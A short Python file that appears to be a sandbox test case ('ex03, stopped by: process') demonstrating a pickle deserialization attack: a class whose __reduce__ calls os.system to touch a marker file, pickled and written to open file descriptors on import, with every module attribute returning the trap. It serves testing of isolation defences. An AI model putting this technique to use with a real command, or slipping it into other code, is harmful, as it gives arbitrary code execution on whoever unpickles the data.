"""Hopes that somebody unpickles what it returns.

ex03, stopped by: process
"""

import os
import pickle


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/minillm-pickle-was-opened",)


for fd in range(3, 20):
    try:
        os.write(fd, pickle.dumps(Trap()))
    except OSError:
        continue


def __getattr__(name):
    return lambda *args, **kwargs: Trap()
